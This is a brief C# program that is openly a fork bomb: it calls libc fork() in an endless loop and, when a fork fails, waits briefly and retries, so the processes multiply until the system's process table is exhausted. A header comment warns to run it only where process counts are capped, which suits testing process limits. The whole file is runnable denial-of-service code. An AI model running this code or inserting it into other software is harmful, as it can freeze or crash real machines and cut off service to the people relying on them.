// A fork bomb whose processes keep trying when a fork fails. Run it only where processes are limited to a few hundred.
using System.Runtime.InteropServices;

class ForksWithoutEnd
{
    [DllImport("libc")]
    static extern int fork();

    [DllImport("libc")]
    static extern int usleep(uint microseconds);

    static int Main()
    {
        while (true)
        {
            if (fork() < 0)
            {
                usleep(10000);
            }
        }
    }
}
